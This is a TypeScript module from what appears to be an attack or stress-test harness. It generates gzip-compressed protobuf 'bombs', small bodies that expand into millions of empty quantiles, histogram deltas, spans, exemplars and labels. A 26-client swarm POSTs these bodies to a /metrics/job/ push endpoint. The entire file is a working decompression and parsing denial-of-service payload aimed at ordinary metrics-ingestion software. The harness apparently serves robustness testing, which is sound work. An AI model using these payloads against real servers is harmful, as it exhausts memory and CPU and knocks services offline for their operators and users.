import { gzipSync } from 'node:zlib';
import type { Attack } from '../../attack.ts';
import { delimited, field, PROTOBUF, repeated } from '../../client/wire.ts';
import { swarm } from '../../client/swarm.ts';

const SIZE = 15_900_000;
const TYPE = { counter: 0, gauge: 1, summary: 2, histogram: 4 };

/** One metric of one family, whose value is repeated parts. */
function family(name: string, type: number, metric: Uint8Array): Buffer {
  return delimited(field(1, name), field(3, type), field(4, metric));
}

/** Bodies below the size limit with millions of parts: compressed, a few kilobytes each. */
function bombs(): Buffer[] {
  const empty = (number: number): Buffer => field(number, '');
  const oneLabel = field(1, Buffer.concat([field(1, 'l'), field(2, 'v')]));
  const value = field(2, Buffer.from([9, 0, 0, 0, 0, 0, 0, 0, 0]));
  return [
    family('quantiles', TYPE.summary, field(4, repeated(empty(3), SIZE))),
    family('deltas', TYPE.histogram, field(7, field(13, Buffer.alloc(SIZE, 2)))),
    family('unpacked_deltas', TYPE.histogram, field(7, repeated(field(10, 1), SIZE))),
    family('positive_spans', TYPE.histogram, field(7, repeated(empty(12), SIZE))),
    family('native_exemplars', TYPE.histogram, field(7, repeated(empty(16), SIZE))),
    family('same_labels', TYPE.gauge, Buffer.concat([repeated(oneLabel, SIZE - 100), value])),
    family('unknown_fields', TYPE.gauge, Buffer.concat([repeated(empty(15), SIZE - 100), value])),
    family('bucket_exemplar', TYPE.histogram, field(7, field(3, field(3, repeated(empty(1), SIZE))))),
    family('created', TYPE.counter, field(3, repeated(empty(3), SIZE))),
    delimited(field(1, 'metrics'), field(3, TYPE.gauge), repeated(empty(4), SIZE)),
    delimited(field(3, TYPE.gauge), repeated(field(1, 'n'), SIZE)),
    repeated(delimited(), SIZE),
    repeated(delimited(field(1, 'f'), field(4, '')), SIZE),
  ];
}

let bodies: Buffer[] = [];

export const protobufBombs: Attack = {
  what: 'gzip of protobuf with millions of empty quantiles, deltas, spans, exemplars, labels, metrics, messages',
  against: 'plain',
  clients: 26,
  prepare: () => {
    bodies = bombs().map((body) => gzipSync(body));
  },
  start: async (target, signal) =>
    swarm(target, signal, async (client) => {
      const body = bodies[client.index % bodies.length] ?? '';
      const headers = { 'content-encoding': 'gzip', 'content-type': PROTOBUF };
      await client.call({ method: 'POST', path: `/metrics/job/proto-${client.index}`, headers, body });
    }),
};
